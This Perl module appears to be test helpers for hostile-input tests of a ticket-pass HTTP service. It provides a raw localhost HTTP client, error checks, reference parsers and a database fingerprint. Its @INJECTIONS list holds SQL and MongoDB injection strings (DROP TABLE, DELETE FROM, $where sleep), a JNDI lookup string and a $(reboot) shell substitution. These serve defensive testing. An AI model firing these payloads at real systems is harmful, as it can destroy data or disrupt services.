package Bytemark::Hostile;

# Helpers of the hostile-input tests (t/61-t/63): a raw HTTP client that
# sends exactly the bytes it is given (NULs, invalid UTF-8, broken request
# lines) and reads whatever comes back, the SPEC error-shape check, the
# reference parsers of SPEC 3 for the expected answer, and a fingerprint of
# both databases to prove that nothing changed.

use strict;
use warnings;

use Exporter 'import';
use IO::Socket::INET;
use IO::Select;
use JSON::PP;
use Digest::SHA qw(sha256_hex);
use Time::HiRes qw(time);

our @EXPORT_OK = qw(raw_http request check_error pct pct_all valid_user_id
                    valid_uuid ref_decode ref_filter db_fingerprint
                    ERROR_CODES @INJECTIONS);

# SQL and MongoDB operators, and other strings that mean something to a
# database or a shell, as a client might send them anywhere it can.
our @INJECTIONS = (
    q{' OR 1=1 --}, q{' OR '1'='1}, q{1 OR 1=1}, q{1' OR '1'='1' /*}, q{') OR ('a'='a},
    q{"; DROP TABLE bytemark_pass; --}, q{1; DROP TABLE bytemark_pass}, q{'; DELETE FROM bytemark_pass; #},
    q{1 UNION SELECT user_id FROM bytemark_pass}, q{%' OR '%'='}, q{\' OR 1=1 -- },
    q{' AND SLEEP(5) --}, q{1' AND BENCHMARK(10000000,SHA1(1)) #},
    q{{"$gt": ""}}, q{{"$ne": null}}, q{{"$gt": 0}}, q{$where}, q{{"$where": "sleep(5000)"}},
    q{this.user_id == 1 || true}, q{[$ne]=1}, q{{"$regex": ".*"}}, q{$set}, q{{"$set": {"user_id": 1}}},
    q{a.b}, q{$}, q{passes.$}, q{`id`}, q{\x00}, q{${jndi:ldap://x/a}}, q{$(reboot)},
);

my $JSON = JSON::PP->new->utf8->canonical->allow_nonref;

use constant ERROR_CODES => qw(invalid_user_id invalid_pass_uuid invalid_argument
                               invalid_body method_not_allowed not_found conflict
                               unavailable internal);

$SIG{PIPE} = 'IGNORE';

# raw_http($port, $bytes, timeout => s): one connection, the bytes as they
# are, then everything until the server closes. Returns {status, headers
# (lower-case names), body, raw, error, time}. status 0: no (parsable)
# answer; error says why ('timeout' when the server did not finish in time).
sub raw_http {
    my ($port, $bytes, %o) = @_;
    my $timeout = $o{timeout} // 15;
    my $t0 = time;
    my %res = (status => 0, headers => {}, body => '', raw => '', error => '');
    my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port,
                                  Proto => 'tcp', Timeout => 5);
    if (!$s) {
        $res{error} = "connect: $!";
        return \%res;
    }
    binmode $s;
    my $sel = IO::Select->new($s);
    my $off = 0;
    my $end = $t0 + $timeout;
    # write, but read too: the server may answer (413, 400) and close early
    while ($off < length $bytes) {
        last if time > $end;
        my ($r, $w) = IO::Select->select($sel, $sel, undef, 1);
        if ($r && @$r) {
            my $n = sysread($s, my $buf, 65536);
            last if !$n;
            $res{raw} .= $buf;
        }
        if ($w && @$w) {
            my $n = syswrite($s, $bytes, 65536, $off);
            last unless defined $n;    # EPIPE / ECONNRESET: read what came
            $off += $n;
        }
    }
    while (1) {
        my $left = $end - time;
        if ($left <= 0) { $res{error} = 'timeout'; last }
        my @r = $sel->can_read($left > 1 ? 1 : $left);
        next unless @r;
        my $n = sysread($s, my $buf, 65536);
        if (!defined $n) { $res{error} ||= "read: $!" if !length $res{raw}; last }
        last if $n == 0;
        $res{raw} .= $buf;
    }
    close $s;
    $res{time} = time - $t0;
    if ($res{raw} =~ /\AHTTP\/1\.[01] (\d{3})[^\r\n]*\r\n(.*?)\r\n\r\n/s) {
        $res{status} = $1;
        my $head = $2;
        my $body = substr($res{raw}, $+[0]);
        for (split /\r\n/, $head) {
            $res{headers}{lc $1} = $2 if /^([^:]+):\s*(.*)$/;
        }
        if (($res{headers}{'transfer-encoding'} // '') =~ /chunked/i) {
            my $out = '';
            while ($body =~ s/\A([0-9a-fA-F]+)[^\r\n]*\r\n//) {
                my $len = hex $1;
                last if $len == 0;
                $out .= substr($body, 0, $len, '');
                $body =~ s/\A\r\n//;
            }
            $body = $out;
        }
        $res{body} = $body;
    } elsif (!$res{error}) {
        $res{error} = length $res{raw} ? 'unparsable answer' : 'no answer';
    }
    return \%res;
}

# request($method, $target, headers => [name => value, ...], body => bytes,
#         host => 1 (default), proto => 'HTTP/1.1'): the request's bytes.
sub request {
    my ($method, $target, %o) = @_;
    my $proto = $o{proto} // 'HTTP/1.1';
    my $r = "$method $target $proto\r\n";
    $r .= "Host: localhost\r\n" unless defined $o{host} && !$o{host};
    $r .= "Connection: close\r\n";
    my @h = @{ $o{headers} // [] };
    while (my ($k, $v) = splice @h, 0, 2) {
        $r .= "$k: $v\r\n";
    }
    if (defined $o{body}) {
        $r .= "Content-Length: " . length($o{body}) . "\r\n" unless $o{no_length};
        return "$r\r\n$o{body}";
    }
    return "$r\r\n";
}

# check_error($res, $status, $code): undef when the answer is the SPEC's
# error body ({"error","message"} exactly, code one of SPEC 3's, JSON
# content type) with that status and code (either may be undef: any);
# otherwise the reason it is not.
sub check_error {
    my ($res, $status, $code) = @_;
    return "status $res->{status}, expected $status" if defined $status && $res->{status} != $status;
    my $ct = $res->{headers}{'content-type'} // '';
    return "content type '$ct'" unless $ct =~ m{^application/json};
    my $j = eval { $JSON->decode($res->{body}) };
    return "body is not JSON: " . substr($res->{body}, 0, 200) unless ref $j eq 'HASH';
    return 'keys ' . join(',', sort keys %$j) unless join(',', sort keys %$j) eq 'error,message';
    return "message is not a string" if ref $j->{message} || !defined $j->{message};
    return "unknown error code $j->{error}" unless grep { $_ eq ($j->{error} // '') } ERROR_CODES;
    return "error $j->{error}, expected $code" if defined $code && $j->{error} ne $code;
    return;
}

# pct($bytes): percent-encode everything but unreserved characters.
sub pct {
    my $s = shift;
    $s =~ s/([^A-Za-z0-9\-._~])/sprintf '%%%02X', ord $1/ge;
    return $s;
}

# pct_all($bytes): every byte percent-encoded, digits and letters too.
sub pct_all {
    return join '', map { sprintf '%%%02X', ord } split //, shift;
}

# SPEC 3: ASCII digits only, no sign, no leading zero, 1 .. 2^53-1.
sub valid_user_id {
    my $s = shift;
    return 0 unless defined $s && $s =~ /\A[1-9][0-9]{0,15}\z/;
    return length($s) < 16 || $s le '9007199254740991' ? 1 : 0;
}

sub valid_uuid {
    my $s = shift;
    return defined $s && $s =~ /\A[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}\z/ ? 1 : 0;
}

# SPEC 3.6: %XX with two hex digits, '+' stays '+'; undef when malformed.
sub ref_decode {
    my $s = shift;
    my $out = '';
    while (length $s) {
        if ($s =~ s/\A%([0-9A-Fa-f]{2})//) { $out .= chr hex $1; next }
        return undef if $s =~ /\A%/;
        $s =~ s/\A([^%]+)// and $out .= $1;
    }
    return $out;
}

# The tickets handler's arguments from a raw query string, as SPEC 3.1/3.6
# read them: (undef) for 400 invalid_argument, else ({statuses => [..] or
# undef, versions => '3'|'4'|'all'}). nginx's $arg_/ngx_http_arg: the first
# argument of that name (case-insensitive), up to the next '&'.
sub _arg {
    my ($q, $name) = @_;
    return $q =~ /(?:\A|&)\Q$name\E=([^&]*)/i ? $1 : undef;
}

sub ref_filter {
    my $q = shift;
    my %f = (versions => 'all');
    my $v = _arg($q, 'version');
    if (defined $v) {
        my $d = ref_decode($v);
        return undef unless defined $d && $d =~ /\A(3|4|all)\z/;
        $f{versions} = $d;
    }
    my $st = _arg($q, 'status');
    if (defined $st) {
        my @s;
        for my $e (length $st ? split(/,/, $st, -1) : ('')) {
            my $d = ref_decode($e);
            return undef unless defined $d && length $d && length $d <= 32 && $d !~ /[\x00-\x1f\x7f]/;
            push @s, $d;
        }
        $f{statuses} = \@s;
    }
    return \%f;
}

# Everything both databases hold: the bytemark_pass rows (count and a hash
# of every column) and the cache collection's documents (canonical EJSON).
sub db_fingerprint {
    my ($t) = @_;
    my $rows = $t->sql(q{SELECT id, user_id, pass_uuid, version, status, free_ticket_status,
                                IFNULL(payload, '<NULL>'), IFNULL(payload_hash, '<NULL>'), timestamp,
                                created_on, modified_on FROM bytemark_pass ORDER BY id});
    my $tables = $t->sql('SHOW TABLES');
    my %fp = (
        mysql_rows   => scalar @$rows,
        mysql_hash   => sha256_hex(join "\n", map { join "\t", @$_ } @$rows),
        mysql_tables => join(',', sort map { $_->[0] } @$tables),
    );
    if ($t->mongo_kind) {
        my @docs = $t->mongo_find({});
        $fp{mongo_docs} = scalar @docs;
        $fp{mongo_hash} = sha256_hex(join "\n", map { $JSON->encode($_) } @docs);
    }
    return \%fp;
}

1;
